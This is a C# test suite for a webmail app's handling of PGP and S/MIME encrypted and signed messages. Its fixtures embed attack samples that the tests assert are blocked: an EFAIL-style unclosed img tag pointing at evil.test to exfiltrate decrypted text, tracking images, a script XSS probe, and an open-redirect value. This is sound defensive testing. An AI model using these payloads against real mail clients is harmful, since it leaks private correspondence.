using System.Net;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Webmail.Tests.Endpoints;
using Webmail.Tests.Mail.Keys;
using Webmail.Tests.Mail.Signatures;
using Webmail.Tests.Pages.Compose;
using Webmail.Tests.Support;

namespace Webmail.Tests.Pages.Mail;

/// <summary>Messages that GnuPG and OpenSSL have encrypted, from a real mail server to the reader.</summary>
public sealed class OpenedTests(SqliteApp sqlite, MailServerFixture mail) : IClassFixture<SqliteApp>
{
    const string Ann = "Ann <ann@example.test>", Head = "To: me@example.test\r\nSubject: Sealed\r\nMIME-Version: 1.0\r\n";
    const string Entity = "Content-Type: multipart/mixed; boundary=in\r\nSubject: What it is about\r\n\r\n--in\r\nContent-Type: text/html\r\n\r\n<p>The secret plan</p><img src=\"https://evil.test/track\"><script>alert(1)</script>\r\n--in\r\n"
        + "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=plan.txt\r\nContent-Transfer-Encoding: base64\r\n\r\nb25lCg==\r\n--in--\r\n";

    [Fact]
    public async Task What_gnupg_encrypted_and_signed_is_read_when_the_key_is_unlocked()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity));
        Assert.Contains($"{at}/opened-body", await desk.TextAsync(at), StringComparison.Ordinal);
        Assert.Contains("data-seal=\"NoKey\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);

        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var opened = await desk.TextAsync(at + "/opened");
        Assert.Contains("data-seal=\"Opened\"", opened, StringComparison.Ordinal);
        Assert.Contains("data-signature=\"MissingKey\"", opened, StringComparison.Ordinal);
        Assert.Contains("What it is about", opened, StringComparison.Ordinal);
        await ImportAsync(desk, gpg.Public("ann@example.test"), "");
        Assert.Contains("data-signature=\"KnownKey\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
        using var file = await desk.GetAsync(at + "/opened-parts/2");
        Assert.Equal("one\n", await file.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));

        using var locked = await desk.Browser.PostAsync("/settings/keys?handler=lock", "/settings/keys");
        Assert.Contains("data-seal=\"Locked\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);
        using var hidden = await desk.GetAsync(at + "/opened-parts/2", HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A_locked_key_is_unlocked_where_its_message_is_read()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity));
        using var locked = await desk.Browser.PostAsync("/settings/keys?handler=lock", "/settings/keys");
        var page = at + "/opened?back=" + Uri.EscapeDataString($"{at}?expand=x");
        Assert.Contains("name=\"passphrase\"", await desk.TextAsync(page), StringComparison.Ordinal);
        using var forged = await desk.Browser.PostRawAsync(at + "/opened", [("passphrase", GnuPg.Passphrase)]);
        Assert.Equal(HttpStatusCode.BadRequest, forged.StatusCode);
        using var wrong = await desk.Browser.PostAsync(at + "/opened", page, ("passphrase", "wrong"));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, wrong.StatusCode);
        Assert.Contains("opens none of your keys", await wrong.Content.ReadAsStringAsync(TestContext.Current.CancellationToken), StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);

        using var right = await desk.Browser.PostAsync(at + "/opened", page, ("passphrase", GnuPg.Passphrase), ("back", $"{at}?expand=x"));
        Assert.Equal($"{at}?expand=x", right.Headers.Location?.ToString());
        Assert.Contains("data-seal=\"Opened\"", await desk.TextAsync(page), StringComparison.Ordinal);
        Assert.Contains("The secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);
        using var away = await desk.Browser.PostAsync(at + "/opened", at, ("passphrase", GnuPg.Passphrase), ("back", "https://evil.test/"));
        Assert.Equal(at, away.Headers.Location?.ToString());
    }

    [Fact]
    public async Task Guessing_a_passphrase_is_slowed_down_in_the_reader_and_in_the_settings()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity));
        using var locked = await desk.Browser.PostAsync("/settings/keys?handler=lock", "/settings/keys");
        for (var tries = 0; tries < 10; tries++) (await desk.Browser.PostAsync(at + "/opened", at + "/opened", ("passphrase", $"wrong {tries}"))).Dispose();
        foreach (var (action, page) in new[] { (at + "/opened", at + "/opened"), ("/settings/keys?handler=unlock", "/settings/keys") })
        {
            using var refused = await desk.Browser.PostAsync(action, page, ("passphrase", GnuPg.Passphrase));
            Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
            Assert.Contains("Too many tries", await refused.Content.ReadAsStringAsync(TestContext.Current.CancellationToken), StringComparison.Ordinal);
        }
        sqlite.App.Clock.Pass(TimeSpan.FromSeconds(16));
        using var later = await desk.Browser.PostAsync(at + "/opened", at + "/opened", ("passphrase", GnuPg.Passphrase));
        Assert.Equal(HttpStatusCode.Redirect, later.StatusCode);
    }

    [Fact]
    public async Task An_answer_quotes_what_was_encrypted_as_it_was_seen_and_is_encrypted_itself()
    {
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        using var gpg = new GnuPg().Make($"Me <{desk.Address}>").Make(Ann);
        await ImportAsync(desk, gpg.Secret(desk.Address), GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity.Replace("<script>", "<p style=\"display:none\">KOBOLD</p><script>", StringComparison.Ordinal), desk.Address));
        var compose = $"/compose?account={desk.Account}&mailbox=INBOX&message={at[(at.LastIndexOf('/') + 1)..]}&kind=";
        foreach (var kind in new[] { "Reply", "Forward", "EditAsNew" })
        {
            var composer = await Composer.OpenAsync(desk.Browser, compose + kind);
            Assert.Contains("The secret plan", composer["body"], StringComparison.Ordinal);
            Assert.Contains("The secret plan", composer["html"], StringComparison.Ordinal);
            foreach (var unseen in new[] { "KOBOLD", "evil.test", "<script" }) Assert.DoesNotContain(unseen, composer["body"] + composer["html"], StringComparison.Ordinal);
            Assert.Equal("true", composer["encrypt"]);
            Assert.NotNull(composer.Page.QuerySelector("[data-seal-note=Quoted]"));
        }
        var forward = await Composer.OpenAsync(desk.Browser, compose + "Forward");
        forward["to"] = "nokey@example.test";
        using var refused = await forward.SendAsync();
        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
        var again = await Composer.FromAsync(desk.Browser, refused);
        Assert.Contains("nokey@example.test", again.Error("to"), StringComparison.Ordinal);
        Assert.Equal(["plan.txt"], again.FileNames);

        using var locked = await desk.Browser.PostAsync("/settings/keys?handler=lock", "/settings/keys");
        var unquoted = await Composer.OpenAsync(desk.Browser, compose + "Reply");
        Assert.DoesNotContain("secret plan", unquoted["body"], StringComparison.Ordinal);
        Assert.NotNull(unquoted.Page.QuerySelector("[data-seal-note=NotQuoted]"));
    }

    [Fact]
    public async Task A32_A66_of_a_message_that_is_partly_encrypted_nothing_secret_is_quoted()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var at = await desk.ReceiveAsync($"From: eve@evil.test\r\n{Head}Content-Type: multipart/mixed; boundary=out\r\n\r\n--out\r\nContent-Type: text/html\r\n\r\n<p>Please answer</p>\r\n--out\r\n{Pgp("", gpg, Entity)}\r\n--out--\r\n");
        var composer = await Composer.OpenAsync(desk.Browser, $"/compose?account={desk.Account}&mailbox=INBOX&message={at[(at.LastIndexOf('/') + 1)..]}&kind=Reply");
        Assert.Contains("Please answer", composer["body"], StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", composer["body"] + composer["html"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Printed_is_what_was_opened_and_what_is_known_of_it()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, [.. gpg.Secret("me@example.test"), .. gpg.Public("ann@example.test")], GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity));
        var print = await desk.TextAsync(at + "/print?images=1");
        foreach (var shown in new[] { "The secret plan", "Encrypted: only you", "Signed by ann@example.test", "What it is about", "plan.txt" }) Assert.Contains(shown, print, StringComparison.Ordinal);
        foreach (var not in new[] { "evil.test", "encrypted.asc" }) Assert.DoesNotContain(not, print, StringComparison.Ordinal);
        using var locked = await desk.Browser.PostAsync("/settings/keys?handler=lock", "/settings/keys");
        var closed = await desk.TextAsync(at + "/print");
        Assert.DoesNotContain("secret plan", closed, StringComparison.Ordinal);
        Assert.Contains("which is locked", closed, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A66_what_was_encrypted_is_cleaned_like_all_mail_and_never_loads_anything()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity));
        using var body = await desk.GetAsync(at + "/opened-body?images=1");
        var text = await body.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Contains("The secret plan", text, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.test", text, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", text, StringComparison.Ordinal);
        Assert.Equal(Webmail.Endpoints.ContentHeaders.BlockedPolicy, body.Headers.GetValues("Content-Security-Policy").Single());
        using var asked = await desk.GetAsync(at + "/opened-body", HttpStatusCode.Forbidden, ("Sec-Fetch-Dest", "image"));
    }

    [Fact]
    public async Task A66_an_encrypted_part_between_others_is_not_opened()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var inner = Pgp("", gpg, Entity);
        var at = await desk.ReceiveAsync($"From: eve@evil.test\r\n{Head}Content-Type: multipart/mixed; boundary=out\r\n\r\n--out\r\nContent-Type: text/html\r\n\r\n<img src='https://evil.test/?\r\n--out\r\n{inner}\r\n--out\r\nContent-Type: text/html\r\n\r\n'>\r\n--out--\r\n");
        Assert.DoesNotContain("opened-body", await desk.TextAsync(at), StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", await desk.TextAsync(at + "/body"), StringComparison.Ordinal);
        using var none = await desk.GetAsync(at + "/opened", HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A65_a_signature_inside_is_the_senders_or_it_is_a_warning()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, [.. gpg.Secret("me@example.test"), .. gpg.Public("ann@example.test")], GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp("Boss <boss@example.test>", gpg, Entity));
        Assert.Contains("data-signature=\"OtherSender\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_signature_of_gnupg_around_a_message_is_checked_with_the_keys_that_are_kept()
    {
        using var gpg = new GnuPg().Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        var part = SignedMail.Part("Dear Bob,\r\n\r\n-- line --\r\nEnd\r\n");
        var seal = Encoding.ASCII.GetString(gpg.Run(Encoding.ASCII.GetBytes(part), "--armor", "--detach-sign"));
        var message = $"From: {Ann}\r\n{Head}Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=sig\r\n\r\n--sig\r\n{part}\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n{seal}\r\n--sig--\r\n";
        var at = await desk.ReceiveAsync(message);
        Assert.Contains("data-signature=\"MissingKey\"", await desk.TextAsync(at + "/signature"), StringComparison.Ordinal);
        await ImportAsync(desk, gpg.Public("ann@example.test"), "");
        Assert.Contains("data-signature=\"KnownKey\"", await desk.TextAsync(at + "/signature"), StringComparison.Ordinal);
        var changed = await desk.ReceiveAsync(message.Replace("Dear Bob", "Dear Eve", StringComparison.Ordinal));
        Assert.Contains("data-signature=\"Broken\"", await desk.TextAsync(changed + "/signature"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_openssl_encrypted_and_signed_is_read()
    {
        using var authority = new SignedMail();
        using var mine = authority.Issue("me@example.test", X509KeyUsageFlags.KeyEncipherment);
        using var hers = authority.Issue("ann@example.test");
        using var folder = new TemporaryDirectory();
        string At(string name) => Path.Combine(folder.Path, name);
        await File.WriteAllTextAsync(At("mine.pem"), mine.ExportCertificatePem(), TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("hers.pem"), $"{hers.ExportCertificatePem()}\n{hers.GetRSAPrivateKey()!.ExportPkcs8PrivateKeyPem()}\n", TestContext.Current.CancellationToken);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, mine.ExportPkcs12(Pkcs12ExportPbeParameters.Pbes2Aes256Sha256, "secret"), "secret");

        var signed = Tool.Run("openssl", Encoding.ASCII.GetBytes(Entity), out _, "cms", "-sign", "-signer", At("hers.pem"), "-nodetach", "-binary", "-crlfeol");
        var message = Encoding.ASCII.GetString(Tool.Run("openssl", signed, out _, "cms", "-encrypt", "-aes256", "-binary", At("mine.pem"))).ReplaceLineEndings("\r\n");
        var at = await desk.ReceiveAsync($"From: {Ann}\r\nTo: me@example.test\r\nSubject: Sealed\r\n{message}");
        var opened = await desk.TextAsync(at + "/opened");
        Assert.Contains("data-seal=\"Opened\"", opened, StringComparison.Ordinal);
        Assert.Contains("data-signature=\"UnknownIssuer\"", opened, StringComparison.Ordinal);
        Assert.Contains("The secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);
        await ImportAsync(desk, hers.RawData, "");
        Assert.Contains("data-signature=\"KnownKey\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);

        var only = await desk.ReceiveAsync($"From: {Ann}\r\nTo: me@example.test\r\nSubject: Signed\r\n{Encoding.ASCII.GetString(signed).ReplaceLineEndings("\r\n")}");
        var wrapped = await desk.TextAsync(only + "/opened");
        Assert.DoesNotContain("data-seal", wrapped, StringComparison.Ordinal);
        Assert.Contains("data-signature=\"KnownKey\"", wrapped, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("ec", "-aes256"), InlineData("rsa", "-aes-256-gcm")]
    public async Task Smime_that_is_not_read_here_is_named(string kind, string cipher)
    {
        using var folder = new TemporaryDirectory();
        string At(string name) => Path.Combine(folder.Path, name);
        Tool.Run("openssl", [], out _, ["req", "-x509", "-nodes", "-subj", "/CN=me", "-newkey", kind, "-pkeyopt", kind == "ec" ? "ec_paramgen_curve:P-256" : "rsa_keygen_bits:2048", "-keyout", At("key.pem"), "-out", At("mine.pem")]);
        var sealedText = Encoding.ASCII.GetString(Tool.Run("openssl", "Content-Type: text/plain\r\n\r\nsecret\r\n"u8.ToArray(), out _, "cms", "-encrypt", cipher, "-binary", At("mine.pem"))).ReplaceLineEndings("\r\n");
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        var at = await desk.ReceiveAsync($"From: {Ann}\r\nTo: me@example.test\r\nSubject: Sealed\r\n{sealedText}");
        var page = await desk.TextAsync(at + "/opened");
        Assert.Contains("data-seal=\"Unread\"", page, StringComparison.Ordinal);
        Assert.Contains("/source?download=1", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task OpenPgp_inside_the_text_is_named_and_not_opened()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>");
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var block = Encoding.ASCII.GetString(gpg.Run("the secret"u8.ToArray(), "--armor", "--encrypt", "--recipient", "me@example.test"));
        var at = await desk.ReceiveAsync($"From: {Ann}\r\n{Head}Content-Type: text/plain\r\n\r\nHello\r\n{block}");
        var body = await desk.TextAsync(at + "/body");
        Assert.Contains("nothing was decrypted", body, StringComparison.Ordinal);
        Assert.DoesNotContain("the secret", body, StringComparison.Ordinal);
    }

    /// <summary>RFC 3156 §6.2: signed and encrypted in one. With no sender, a part to put into a message.</summary>
    static string Pgp(string from, GnuPg gpg, string entity, string to = "me@example.test")
    {
        var block = Encoding.ASCII.GetString(gpg.Run(Encoding.ASCII.GetBytes(entity), "--armor", "--sign", "--local-user", "ann@example.test", "--encrypt", "--recipient", to));
        return (from.Length > 0 ? $"From: {from}\r\n{Head}" : "") + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=enc\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--enc\r\n"
            + $"Content-Type: application/octet-stream\r\n\r\n{block.ReplaceLineEndings("\r\n")}\r\n--enc--\r\n";
    }

    static async Task ImportAsync(ReadingDesk desk, byte[] file, string passphrase)
    {
        using var page = await desk.Browser.GetAsync("/settings/keys");
        var token = System.Text.RegularExpressions.Regex.Match(await page.Content.ReadAsStringAsync(), "name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"").Groups[1].Value;
        using var form = new MultipartFormDataContent { { new StringContent(token), "__RequestVerificationToken" }, { new StringContent(passphrase), "passphrase" }, { new ByteArrayContent(file), "file", "key" } };
        using var answer = await desk.Browser.Http.PostAsync("/settings/keys?handler=import", form);
        Assert.Equal(HttpStatusCode.Redirect, answer.StatusCode);
    }
}
